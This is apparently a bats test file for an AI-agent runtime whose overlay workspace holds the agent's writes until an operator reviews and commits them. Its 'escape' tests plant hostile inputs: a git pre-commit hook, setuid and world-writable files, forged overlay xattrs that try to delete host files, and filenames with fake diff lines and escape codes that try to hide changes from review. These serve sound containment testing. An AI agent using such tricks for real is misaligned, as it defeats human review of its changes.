#!/usr/bin/env bats
# workspace.bats - overlay workspaces: the agent's writes reach the host only
# when committed.  The engine's view: a host directory bound at
# /workspace, run under the `agent` profile, which turns it into an overlay.

load workspace-common

@test "workspace: the agent's edits, renames and rm -rf leave the host byte-for-byte unchanged" {
  bundle_for "$AGENT_WORK"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'hello\nmore')" ]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:n.txt added:sub added:sub/x deleted:data modified:a.txt \
    'renamed:b2.txt<-b.txt' | sort)" ]
  run ar workspace "$ID" diff
  [[ "$output" == *"deleted   data/  (directory, 2 files, 8197 bytes)"* ]]
  run ar workspace "$ID" diff --patch
  [[ "$output" == *"+more"* ]]
  [ "$(host_sum)" = "$SUM0" ]
}

# The agent's modes reach the host (an executable stays one), but write permission for every
# local user is not the agent's to give: a world-writable script or directory in the
# operator's tree lets any user of the host change, after the review, what the operator then
# runs.  Kept where the host's own file already had it.
@test "escape: world-writable: a file and a directory the agent made 0777 reached the host writable by every local user" {
  chmod 0775 "$HOST" # open to its group: the group's write is kept (see group-writable)
  echo shared >"$HOST/shared.txt" && chmod 0666 "$HOST/shared.txt"
  chmod 0644 "$HOST/a.txt"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0777 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0777 tools tools/sub && chmod 0666 a.txt && echo more >>shared.txt &&
    echo y >exec.sh && chmod 0755 exec.sh'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/build.sh")" = run ] && [ "$(cat "$HOST/tools/sub/x")" = x ] || fail "not committed"
  [ -z "$(find "$HOST" -perm -o+w ! -name shared.txt -printf '%m %P\n')" ] ||
    fail "writable by others: $(find "$HOST" -perm -o+w -printf '%m %P\n')"
  [ "$(stat -c %a "$HOST/build.sh")" = 775 ] && [ "$(stat -c %a "$HOST/tools")" = 775 ] &&
    [ "$(stat -c %a "$HOST/exec.sh")" = 755 ] && [ "$(stat -c %a "$HOST/a.txt")" = 664 ] ||
    fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub exec.sh a.txt)"
  [ "$(stat -c %a "$HOST/shared.txt")" = 666 ] && [ "$(tail -1 "$HOST/shared.txt")" = more ] ||
    fail "the host's own 0666 file: $(stat -c '%a' "$HOST/shared.txt")"
}

# Group write: a host dir the operator keeps closed to its group (0755, whatever the files'
# group) must not receive the agent's group-writable script or directory (any member of the
# group could change, after the review, what the operator runs); the host's own
# group-writable file keeps its mode; a host dir open to its group (0775, a umask of 002 or a
# shared project) keeps the agent's group write, as the operator's own files there have it.
@test "escape: group-writable: a script and a directory the agent made 0775 reached a 0755 host dir writable by its group" {
  chmod 0755 "$HOST"
  echo shared >"$HOST/shared.txt" && chmod 0664 "$HOST/shared.txt"
  chmod 0644 "$HOST/a.txt"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0775 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0664 tools/sub/x && chmod 0775 tools tools/sub && chmod 0664 a.txt &&
    echo more >>shared.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/build.sh")" = run ] && [ "$(cat "$HOST/tools/sub/x")" = x ] || fail "not committed"
  [ -z "$(find "$HOST" -perm -g+w ! -name shared.txt -printf '%m %P\n')" ] ||
    fail "writable by the group: $(find "$HOST" -perm -g+w -printf '%m %P\n')"
  [ "$(stat -c %a "$HOST/build.sh")" = 755 ] && [ "$(stat -c %a "$HOST/tools")" = 755 ] &&
    [ "$(stat -c %a "$HOST/a.txt")" = 644 ] || fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools a.txt)"
  [ "$(stat -c %a "$HOST/shared.txt")" = 664 ] && [ "$(tail -1 "$HOST/shared.txt")" = more ] ||
    fail "the host's own 0664 file: $(stat -c '%a' "$HOST/shared.txt")"
}

@test "workspace: a host dir open to its group (0775) keeps the group write of the agent's new files and directories" {
  chmod 0775 "$HOST"
  bundle_for 'cd /workspace && echo run >build.sh && chmod 0775 build.sh && mkdir -p tools/sub &&
    echo x >tools/sub/x && chmod 0664 tools/sub/x && chmod 0775 tools tools/sub'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub tools/sub/x | tr '\n' ' ')" = "775 build.sh 775 tools 775 tools/sub 664 tools/sub/x " ] ||
    fail "modes: $(cd "$HOST" && stat -c '%a %n' build.sh tools tools/sub tools/sub/x)"
}

# A bind mount nested under the workspace (docker -v X:/workspace/cache/sub) needs its
# mount point: the runtime makes it (and its missing parents), runc in the host dir itself,
# agentrt in the upper layer.  Those directories are not the agent's changes: the review
# does not list them and commit does not make them; what the agent puts beside them is
# listed as usual.
@test "workspace: mount points made for binds nested under /workspace are not agent changes" {
  mkdir -p "$T/ext" && echo outside >"$T/ext/o.txt" && echo conf >"$T/app.conf"
  bundle_for 'cd /workspace && test -f cache/sub/o.txt && test "$(cat conf/app.conf)" = conf && echo mine >cache/mine.txt && echo OK'
  jq --arg e "$T/ext" --arg f "$T/app.conf" '.mounts += [{"destination": "/workspace/cache/sub", "type": "bind", "source": $e, "options": ["rbind", "ro"]},
      {"destination": "/workspace/tmp2", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]},
      {"destination": "/workspace/conf/app.conf", "type": "bind", "source": $f, "options": ["bind", "ro"]}]' \
    "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *OK* ]] || fail "run: $output"
  run changes
  [ "$output" = "$(printf 'added:cache\nadded:cache/mine.txt')" ] || fail "changes: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/cache/mine.txt")" = mine ] && [ ! -e "$HOST/cache/sub" ] && [ ! -e "$HOST/tmp2" ] &&
    [ ! -e "$HOST/conf" ] ||
    fail "host: $(find "$HOST" | sort)"
  # the next run has no such mounts: what the agent puts at those paths is its change
  jq '.process.args = ["sh", "-c", "cd /workspace && mkdir -p cache/sub tmp2/d && echo evil >cache/sub/evil.sh && echo e >tmp2/d/e && echo x >conf/app.conf && echo OK"] |
      del(.mounts[] | select(.destination | startswith("/workspace/")))' \
    "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *OK* ]] || fail "run 2: $output"
  run changes
  [ "$output" = "$(printf 'added:cache/sub\nadded:cache/sub/evil.sh\nadded:conf\nadded:conf/app.conf\nadded:tmp2\nadded:tmp2/d\nadded:tmp2/d/e')" ] ||
    fail "changes of run 2: $output"
}

@test "workspace: commit of one path applies only it; a host change is a conflict" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace "$ID" commit /workspace/a.txt
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/a.txt")" = "$(printf 'hello\nmore')" ]
  [ -f "$HOST/b.txt" ] && [ -f "$HOST/data/app.db" ] && [ ! -e "$HOST/n.txt" ]
  run changes
  [[ "$output" != *"a.txt"* ]]
  echo "operator" >"$HOST/b.txt"
  sum=$(host_sum)
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ]
  [[ "$output" == *"conflict: b.txt: changed on host"* ]]
  [ "$(host_sum)" = "$sum" ]
  # the rest commits; rm -rf data goes through
  run ar workspace "$ID" commit sub data n.txt
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/sub/x")" = x ] && [ ! -e "$HOST/data" ] && [ "$(cat "$HOST/b.txt")" = operator ]
}

@test "workspace: discard leaves the host unchanged and the diff empty" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace "$ID" discard
  [ "$status" -eq 0 ]
  run ar workspace "$ID" diff
  [[ "$output" == "no changes"* ]]
  [ "$(host_sum)" = "$SUM0" ]
}

@test "workspace: snapshot, more damage, rollback of a running container; after delete diff and commit work; purge leaves nothing" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo v1 >/workspace/a.txt && echo s >/workspace/snap.txt'
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ] && [ "$output" = s1 ]
  [ "$(ar state "$ID" | jq -r .status)" = running ]
  ar exec "$ID" sh -c 'rm -rf /workspace/data /workspace/src && echo v2 >/workspace/a.txt && echo junk >/workspace/junk'
  run ar workspace "$ID" rollback s1
  [ "$status" -eq 0 ]
  [ "$(ar state "$ID" | jq -r .status)" = running ]
  run ar exec "$ID" sh -c 'cat /workspace/a.txt /workspace/snap.txt /workspace/data/rows.txt; ls /workspace'
  [ "$status" -eq 0 ]
  [[ "$output" == "$(printf 'v1\ns\nrows')"* ]]
  [[ "$output" != *junk* ]]
  run ar workspace "$ID" list
  [[ "$output" == *s1* ]]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:snap.txt modified:a.txt)" ]
  ar delete --force "$ID"
  run changes
  [ "$output" = "$(printf '%s\n' added:snap.txt modified:a.txt)" ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [ "$(cat "$HOST/a.txt")" = v1 ] && [ "$(cat "$HOST/snap.txt")" = s ]
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ]
  [ ! -e "$STORE/.workspaces/$ID" ]
  run ar workspace list --format json
  [ "$output" = "[]" ]
}

# After a rollback the overlay's lowerdir names the snapshot in the data directory and the host
# dir: under an engine's 64-character id and with a snapshot's name of up to 128 characters it
# is longer than the 255 bytes fsconfig() takes, and the rollback's new overlay failed
# (mounts.bats "overlay-long-options").
@test "workspace: snapshot-long-id: snapshots with long names and rollbacks of a running container with a 64-character id (as Docker's)" {
  local long=before-the-agent-refactors-the-billing-module-and-its-tests-so-that-we-can-come-back-to-this-state-if-needed
  ID=$(printf '%s' "$BATS_TEST_NUMBER-$$" | sha256sum | cut -c1-64)
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  for i in 1 2 3; do
    ar exec "$ID" sh -c "echo v$i >/workspace/a.txt && echo $i >/workspace/f$i.txt"
    run ar workspace "$ID" snapshot "$long-$i"
    [ "$status" -eq 0 ] && [ "$output" = "$long-$i" ] || fail "snapshot $i: $output"
  done
  ar exec "$ID" sh -c 'echo junk >/workspace/junk'
  run ar workspace "$ID" rollback "$long-3"
  [ "$status" -eq 0 ] || fail "rollback 3: $output"
  run ar exec "$ID" sh -c 'cat /workspace/a.txt /workspace/f1.txt /workspace/f2.txt /workspace/f3.txt; ls /workspace'
  [[ "$output" == "$(printf 'v3\n1\n2\n3')"* ]] && [[ "$output" != *junk* ]] || fail "after 3: $output"
  run ar workspace "$ID" rollback "$long-2"
  [ "$status" -eq 0 ] || fail "rollback 2: $output"
  run ar exec "$ID" sh -c 'cat /workspace/a.txt; ls /workspace'
  [[ "$output" == v2* ]] && [[ "$output" != *f3.txt* ]] || fail "after 2: $output"
  ar delete --force "$ID"
  run changes
  [ "$output" = "$(printf '%s\n' added:f1.txt added:f2.txt modified:a.txt)" ] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ]
}

# Overlay mode decides protection at review time: nothing is mounted over
# .git, no placeholder is created, and a hook written after a rollback (on the
# new overlay) is marked by diff and left out by commit.
@test "workspace: overlay mode mounts nothing over .git; a hook written after a rollback is left out of the commit" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  run ar exec "$ID" sh -c 'cat /proc/self/mountinfo'
  [[ "$output" != *"/workspace/.git"* ]]
  run ar exec "$ID" sh -c 'ls -a /workspace'
  [[ "$output" != *".git"* ]]
  run ar explain "$ID"
  [[ "$output" == *"workspace.protected"*"--include-protected"* ]] || fail "$output"
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ]
  run ar workspace "$ID" rollback s1
  [ "$status" -eq 0 ]
  ar exec "$ID" sh -c 'mkdir -p /workspace/.git/hooks && echo evil >/workspace/.git/hooks/pre-commit &&
    echo fine >/workspace/ok.txt'
  ar delete --force "$ID"
  run ar workspace "$ID" diff
  [[ "$output" == *"! added     .git/hooks/pre-commit"*"[protected: git configuration, hooks"* ]]
  [[ "$output" == *"# 3 protected"* ]] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == "ok.txt") | .protected // "none"' <<<"$output")" = none ]
  [ "$(jq -r '.changes[] | select(.path == ".git/hooks/pre-commit") | .protected' <<<"$output")" != null ]
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ]
  [[ "$output" == *"left out .git/hooks/pre-commit (protected"* ]]
  [ "$(cat "$HOST/ok.txt")" = fine ]
  [ ! -e "$HOST/.git" ]
}

@test "workspace: bind-protect-via-symlink: protected names that are symlinks inside the workspace stay read-only" {
  # other names for a protected thing: .git a relative symlink to the real git dir,
  # .envrc a relative one into a subdirectory, .vimrc an absolute one (resolved in
  # the container's root); each target is bound read-only as the name itself would be
  mkdir -p "$HOST/realgit/hooks" "$HOST/env"
  echo '[core]' >"$HOST/realgit/config"
  echo 'export A=1' >"$HOST/env/real"
  echo 'set nocp' >"$HOST/vimrc.real"
  ln -s realgit "$HOST/.git"
  ln -s env/real "$HOST/.envrc"
  ln -s /workspace/vimrc.real "$HOST/.vimrc"
  ln -s .exrc "$HOST/.exrc"             # a loop: create must not fail on it
  ln -s missing/nvimrc "$HOST/.nvimrc" # dangling
  bundle_for 'cd /workspace; echo x >>.git/config 2>/dev/null && echo CONFIG-WRITTEN;
    echo x >.git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN;
    echo x >>.envrc 2>/dev/null && echo ENVRC-WRITTEN; echo x >>.vimrc 2>/dev/null && echo VIMRC-WRITTEN;
    echo x >>env/real 2>/dev/null && echo REAL-ENVRC-WRITTEN; echo ok >ok.txt;
    rm -f .envrc 2>/dev/null && echo ENVRC-REMOVED; mv .vimrc vv 2>/dev/null && echo VIMRC-MOVED;
    rm -f .exrc 2>/dev/null && echo EXRC-REMOVED; rm -f .nvimrc 2>/dev/null && echo NVIMRC-REMOVED; true'
  jq '.annotations["run.agentrt.workspace.mode"] = "bind"' "$BUNDLE/config.json" >"$T/c.json" && mv "$T/c.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" != *WRITTEN* ]] || fail "a protected file was written through its symlink: $output"
  [[ "$output" != *REMOVED* && "$output" != *MOVED* ]] || fail "a protected name was replaced: $output"
  [ "$(cat "$HOST/ok.txt")" = ok ] || fail "the workspace itself is not writable"
  [ "$(cat "$HOST/realgit/config")" = '[core]' ] && [ ! -e "$HOST/realgit/hooks/pre-commit" ] &&
    [ "$(cat "$HOST/env/real")" = 'export A=1' ] && [ "$(cat "$HOST/vimrc.real")" = 'set nocp' ] ||
    fail "the host's protected files changed"
  # a protected name for the workspace itself, one above it, a device or a proc file: the
  # run starts and the workspace stays writable (nothing of its own to protect there)
  local t
  for t in . /workspace / ../../.. /dev/null /proc/self/environ; do
    rm -f "$HOST/.envrc" "$HOST/ok.txt"
    ln -s "$t" "$HOST/.envrc"
    run ar run --bundle "$BUNDLE" "$ID-$RANDOM"
    [ "$status" -eq 0 ] && [ "$(cat "$HOST/ok.txt")" = ok ] || fail ".envrc -> $t: $status: $output"
  done
}

# --- any tree the agent can build

@test "workspace: a 400-deep tree diffs, commits, snapshots and purges completely" {
  bundle_for 'cd /workspace && i=0; while [ $i -lt 400 ]; do mkdir d && cd d || exit 1; i=$((i+1)); done; echo deep >f'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  deep=$(printf 'd/%.0s' $(seq 400))f
  run ar workspace "$ID" diff --format json
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(jq -r '.changes | length' <<<"$output")" = 401 ]
  [ "$(jq -r '.changes[-1].path' <<<"$output")" = "$deep" ]
  run ar workspace "$ID" snapshot s1
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cd "$HOST" && cat "$deep")" = deep ]
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ] || fail "$output"
  [ ! -e "$STORE/.workspaces/$ID" ] || fail "left: $(find "$STORE/.workspaces/$ID" -maxdepth 3 | head)"
}

@test "workspace: a tree deeper than PATH_MAX: diff names what is too long to check, commit applies the rest" {
  # 150 levels of 20-byte names, then a tree of 100 more moved below them with one rename: its
  # paths (5,000+ bytes) are longer than a host tool, or the review's look for a bare
  # repository's HEAD on the host, can open by name.  Before, that look failed and counted as
  # "no HEAD", and commit refused everything ("differ from what the last diff showed").
  bundle_for 'cd /workspace && n=dddddddddddddddddddd && mkdir a b &&
    (cd a && i=0; while [ $i -lt 150 ]; do mkdir $n && cd $n || exit 1; i=$((i+1)); done) &&
    (cd b && i=0; while [ $i -lt 100 ]; do mkdir $n && cd $n || exit 1; i=$((i+1)); done; echo deep >f) &&
    echo near >a/near && mv b "a/$(printf "$n/%.0s" $(seq 150))b"'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$status" -eq 0 ] || fail "$(tail -c 600 <<<"$output")"
  long=$(jq '[.changes[] | select(.path | length + 5 > 4096)] | length' <<<"$output")
  marked=$(jq '[.changes[] | select(.path | length + 5 > 4096) | select(.protected // "" | test("too long to check"))] | length' <<<"$output")
  [ "$long" -ge 50 ] && [ "$long" = "$marked" ] || fail "$marked of $long paths over PATH_MAX marked"
  jq -e '.changes[] | select(.path == "a/near") | .protected == null' <<<"$output" >/dev/null ||
    fail "a/near marked: $(jq -c '.changes[] | select(.path == "a/near")' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$(tail -c 600 <<<"$output")"
  [[ "$output" == *"left out $long protected change(s)"* ]] || fail "$(tail -c 300 <<<"$output")"
  [ "$(cat "$HOST/a/near")" = near ] || fail "a/near not committed"
  run ar workspace "$ID" purge
  [ "$status" -eq 0 ] || fail "$output"
}

@test "workspace: non-UTF-8 names and hard links commit exactly" {
  bundle_for 'cd /workspace && echo raw >"$(printf "n\377x")" && echo one >h1 && ln h1 h2 && ln a.txt a-link'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff
  [[ "$output" == *'added     "n\377x"  (file, 4 bytes)'* ]] || fail "$output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path_hex) | "\(.path) \(.path_hex)"' <<<"$output")" = '"n\377x" 6eff78' ] ||
    fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cat "$HOST/$(printf 'n\377x')")" = raw ]
  [ "$(cat "$HOST/h1")" = one ] && [ "$(cat "$HOST/h2")" = one ] && [ "$(cat "$HOST/a-link")" = hello ]
}

# A fifo among ten files stopped the commit after three were applied.
@test "workspace: special files are listed, skipped with a warning and never half-applied" {
  bundle_for 'cd /workspace && for i in 0 1 2 3 4 5 6 7 8 9; do echo $i >f$i; done && mkfifo f3-fifo && ls -l f3-fifo'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" diff
  [[ "$output" == *"f3-fifo  (other, 0 bytes)  [special file: never committed]"* ]] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$output" == *"skipped f3-fifo: a special file"* ]] || fail "$output"
  for i in 0 1 2 3 4 5 6 7 8 9; do [ "$(cat "$HOST/f$i")" = "$i" ]; done
  [ ! -e "$HOST/f3-fifo" ]
}

# The first pass checks and stages everything; a failure there (here: the host
# path `z` is a symlink, which commit never crosses, even with --force) leaves
# the host as it was.
@test "workspace: commit is all or nothing: a failure on the last path applies none of the others" {
  mkdir -p "$HOST/zlocked"
  bundle_for 'cd /workspace && for i in 0 1 2 3 4 5 6 7 8 9; do echo $i >f$i; done && mkdir newdir && echo n >newdir/n &&
    echo x >zlocked/x'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  # the last path's host directory refuses new files (immutable): its staging fails
  chattr +i "$HOST/zlocked" 2>/dev/null || skip "chattr +i not supported here"
  tree0=$(host_tree)
  run ar workspace "$ID" commit --force
  chattr -i "$HOST/zlocked"
  [ "$status" -ne 0 ] || fail "commit succeeded: $output"
  [[ "$output" == *"nothing was applied"*"zlocked/x"* ]] || fail "$output"
  [ "$(host_tree)" = "$tree0" ] || fail "the host changed: $(ls -la "$HOST")"
  [ -z "$(find "$HOST" -name '.agentrt-ws.*')" ]
}

@test "workspace: setuid and setgid bits are stripped from committed files and directories" {
  chmod 0775 "$HOST" # open to its group: g keeps its group write
  bundle_for 'cd /workspace && mkdir g && chmod 2775 g && echo x >g/f && echo s >s && chmod 4755 s && chmod 2755 src'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(stat -c %a "$HOST/g")" = 775 ] || fail "g: $(stat -c %a "$HOST/g")"
  [ "$(stat -c %a "$HOST/s")" = 755 ] || fail "s: $(stat -c %a "$HOST/s")"
  [ "$(stat -c %a "$HOST/src")" = 755 ] || fail "src: $(stat -c %a "$HOST/src")"
}

# What the agent can give a file besides its bytes: a file capability, trusted.* and
# security.* xattrs (refused inside without CAP_SETFCAP or CAP_SYS_ADMIN, tried anyway),
# user.* xattrs and POSIX ACLs (the agent's to set: a user of the host given write to a
# script, as world-writable gave everyone), setuid on a host file, and an append through a
# hard link the host dir shares with a file outside it.  Commit carries none of them, and
# writes nothing outside the host dir.
@test "escape: file-privileges: a file capability, xattrs, POSIX ACLs, setuid and a hard link out of the host dir reach nothing on the host" {
  command -v python3 >/dev/null || skip "needs python3"
  cp "$REPO/build/test-helpers/fileops" "$BUNDLE/rootfs/bin/" || skip "needs make test-helpers"
  echo out >"$T/outside" && ln "$T/outside" "$HOST/linked"
  bundle_for 'cd /workspace && echo n >new.sh && mkdir shared && chmod 755 new.sh
    fileops setxattr new.sh security.capability cap; echo cap=$?
    fileops setxattr new.sh trusted.agent v; echo trusted=$?
    fileops setxattr new.sh security.agent v; echo security=$?
    fileops setxattr new.sh user.agent v; echo user=$?
    fileops acl new.sh 65534; echo acl=$?
    fileops acl shared 65534 default; echo dacl=$?
    echo more >>a.txt && fileops acl a.txt 65534; echo hacl=$?
    chmod 4755 a.txt && echo evil >>linked && echo x >shared/f && ls -l new.sh a.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  # the ones the agent may set inside were set (the test plants what it says)
  [[ "$output" == *user=0* && "$output" == *acl=0* && "$output" == *dacl=0* && "$output" == *hacl=0* ]] ||
    fail "plant: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/new.sh")" = n ] && [ "$(tail -n1 "$HOST/a.txt")" = more ] && [ "$(cat "$HOST/shared/f")" = x ] ||
    fail "not committed"
  run python3 -c 'import os, sys
for f in sys.argv[1:]:
    print(f.rsplit("/", 1)[1], sorted(os.listxattr(f, follow_symlinks=False)))' \
    "$HOST/new.sh" "$HOST/a.txt" "$HOST/shared" "$HOST/shared/f" "$HOST/linked"
  [ "$output" = "$(printf '%s\n' 'new.sh []' 'a.txt []' 'shared []' 'f []' 'linked []')" ] ||
    fail "xattrs or ACLs reached the host: $output"
  # an ACL's mask shows as the group's bits (new.sh 0764 inside): their write is not carried;
  # a.txt's chmod 4755 came after its ACL
  [ "$(stat -c %a "$HOST/new.sh")" = 744 ] && [ "$(stat -c %a "$HOST/a.txt")" = 755 ] ||
    fail "modes: $(stat -c '%a %n' "$HOST/new.sh" "$HOST/a.txt")"
  [ "$(cat "$T/outside")" = out ] || fail "commit wrote through the hard link to a file outside the host dir"
  [ "$(cat "$HOST/linked")" = "$(printf 'out\nevil')" ] || fail "linked: $(cat "$HOST/linked")"
}

# Names are the agent's: a newline and a fake change line, escape sequences
# that erase the previous line.  Text output quotes them (one change per
# line, no raw control byte); JSON keeps them exactly.
@test "workspace: forged names cannot add, hide or rewrite lines of the diff" {
  bundle_for 'cd /workspace && echo a >"$(printf "x\nadded     evil.sh  (file, 1 bytes)")" &&
    echo b >"$(printf "\033[2K\033[1Aquiet")" && echo c >"$(printf "tab\there")" && rm b.txt'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "$output"
  ar workspace "$ID" diff >"$T/diff.txt"
  ! grep -q '^added     evil.sh' "$T/diff.txt" || fail "forged line: $(cat "$T/diff.txt")"
  ! grep -q $'\033' "$T/diff.txt" || fail "raw escape in the diff"
  [ "$(grep -c '^added' "$T/diff.txt")" = 3 ] && [ "$(grep -c '^deleted' "$T/diff.txt")" = 1 ]
  grep -qF 'added     "x\nadded     evil.sh  (file, 1 bytes)"  (file, 2 bytes)' "$T/diff.txt"
  grep -qF 'added     "\033[2K\033[1Aquiet"' "$T/diff.txt"
  grep -qF 'added     "tab\there"' "$T/diff.txt"
  ar workspace "$ID" diff --patch >"$T/patch.txt"
  ! grep -q $'\033' "$T/patch.txt" && ! grep -q '^added     evil.sh' "$T/patch.txt"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r --arg p "$(printf 'x\nadded     evil.sh  (file, 1 bytes)')" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ]
  [ "$(jq -r --arg p "$(printf '\033[2K\033[1Aquiet')" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ]
}

# forged-opaque: the overlay is mounted with its metadata in trusted.overlay.* (no userxattr), where
# user.overlay.opaque is an ordinary xattr the agent may set on any directory it owns.  The review
# read it as the overlay's opaque marker all the same: the host files below that directory, which
# the container still saw, were listed as deleted and a commit deleted them from the host.  The
# review now reads only the namespace the workspace's last mount used (meta.json).
@test "escape: forged-opaque: a user.overlay.opaque the agent set on a host directory made commit delete files the container still saw" {
  command -v python3 >/dev/null || skip "needs python3"
  bundle_usr "cd /workspace && python3 -c \"import os; os.setxattr('data', 'user.overlay.opaque', b'y')\" &&
    ls data && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *app.db*rows.txt*PLANTED* ]] || fail "plant: $output"
  run changes
  [ "$status" -eq 0 ] && [ -z "$output" ] || fail "changes: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ -f "$HOST/data/app.db" ] && [ "$(cat "$HOST/data/rows.txt")" = rows ] ||
    fail "host data/: $(ls -A "$HOST/data")"
  [ "$(host_sum)" = "$SUM0" ] || fail "host changed: $(cd "$HOST" && find . | sort)"
}

# Forging the overlay's own metadata from inside: trusted.overlay.* needs CAP_SYS_ADMIN of the
# host's user namespace (refused), and a user.overlay.redirect the agent sets on a host directory
# is an ordinary xattr: neither the container's view nor the review follows it to another
# directory (src still shows its own file, nothing of data/ moves).
@test "escape: forged-redirect: overlay xattrs the agent sets on a host directory neither redirect nor hide it" {
  command -v python3 >/dev/null || skip "needs python3"
  bundle_usr "cd /workspace && python3 -c \"
import os
for n in ('trusted.overlay.opaque', 'trusted.overlay.redirect'):
    try:
        os.setxattr('src', n, b'/data'); print(n, 'SET')
    except OSError as e:
        print(n, 'refused', e.errno)
os.setxattr('src', 'user.overlay.redirect', b'/data')
os.setxattr('data', 'user.overlay.redirect', b'src')
\" && ls src data && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  [[ "$output" != *SET* ]] && [[ "$output" == *"trusted.overlay.opaque refused 1"* ]] &&
    [[ "$output" == *"trusted.overlay.redirect refused 1"* ]] || fail "trusted.* set: $output"
  [[ "$output" == *data:*app.db*rows.txt*src:*main.c*PLANTED* ]] || fail "the container's view moved: $output"
  run changes
  [ "$status" -eq 0 ] || fail "changes: $output"
  ! grep -qE '^(added|deleted|renamed):' <<<"$output" || fail "changes: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(host_sum)" = "$SUM0" ] || fail "host changed: $(cd "$HOST" && find . | sort)"
}

# The redirects an attacker would forge for a review that followed them (the overlay makes none:
# redirect_dir=off, see README "Workspace review"): user.overlay.redirect on host directories
# pointing at `..`, `/..`, an absolute path out of the workspace, a protected path (.git/hooks),
# each other (a loop) and itself, a name with an escape sequence and a newline; on a directory of
# the agent's own pointing at a host directory; trusted.overlay.redirect refused.  Each directory
# still shows its own files, the review shows only the agent's new directory, the commit brings
# only that, and the directories so marked still cannot be renamed (EXDEV: no redirect is made).
@test "escape: forged-redirect: redirects at .., outside, a protected path, a loop or a control name move nothing" {
